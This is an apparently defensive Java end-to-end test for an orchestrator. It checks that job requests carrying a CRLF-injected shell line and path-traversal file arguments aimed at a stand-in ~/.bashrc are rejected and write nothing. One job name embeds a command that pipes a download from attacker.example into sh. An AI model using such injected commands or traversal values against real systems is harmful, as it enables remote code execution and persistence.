package io.orchestr.e2e;

import io.orchestr.client.OrchestratorException;
import io.orchestr.shared.api.NewJob;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

/**
 * The attack of issue 14 on a demo node: one unauthenticated POST whose name forges a shell line and whose
 * argument points the demo handler at a file the node user's shell reads at start-up. A temporary file stands for
 * {@code ~/.bashrc}; neither request may write a byte to it.
 */
class DemoFileAttackTest {
    private static final String BASHRC = "# the node user's ~/.bashrc\n";
    private static final Duration DEADLINE = Duration.ofSeconds(30);

    @TempDir
    static Path home;
    private static Path bashrc;
    private static Cluster cluster;

    @BeforeAll
    static void startCluster() throws IOException {
        bashrc = Files.writeString(home.resolve(".bashrc"), BASHRC);
        cluster = Cluster.withManager("demo-file-attack");
        cluster.startNode("node-1", 2);
    }

    @AfterAll
    static void stopCluster() {
        cluster.close();
    }

    @Test
    void aNameWithCrLfIsRefusedWith400NamingTheNameAndNothingIsWritten() throws IOException {
        NewJob attack = new NewJob("x\r\ncurl -s attacker.example | sh\r\n#", "file=" + bashrc, "ticker", null, null);

        assertThatThrownBy(() -> cluster.client().createJob(attack))
                .isInstanceOfSatisfying(OrchestratorException.class, e -> {
                    assertThat(e.status()).isEqualTo(400);
                    assertThat(e.field()).contains("name");
                })
                .hasMessageContaining("control or format characters");
        assertThat(Files.readString(bashrc)).isEqualTo(BASHRC);
    }

    @Test
    void aDemoFileOutsideTheDemoDirectoryFailsTheRunWithAClearErrorAndNothingIsWritten() throws IOException {
        UUID job = cluster.client().createJob(new NewJob("bashrc-attack", "file=" + bashrc + ";tickMillis=100",
                "ticker", null, null)).id();

        String error = await("the run's error").atMost(DEADLINE)
                .until(() -> cluster.client().job(job).lastError(), lastError -> lastError != null);

        assertThat(error).contains("file=" + bashrc + " is outside the demo directory");
        assertThat(Files.readString(bashrc)).isEqualTo(BASHRC);
    }

    @Test
    void aRelativeDemoFileThatEscapesTheDemoDirectoryFailsTheRunAndNothingIsWritten() {
        Path escaped = cluster.demoDir().resolveSibling("escaped.log");
        UUID job = cluster.client().createJob(new NewJob("dot-dot-attack", "file=../escaped.log;tickMillis=100",
                "ticker", null, null)).id();

        String error = await("the run's error").atMost(DEADLINE)
                .until(() -> cluster.client().job(job).lastError(), lastError -> lastError != null);

        assertThat(error).contains("file=../escaped.log is outside the demo directory");
        assertThat(escaped).doesNotExist();
    }
}
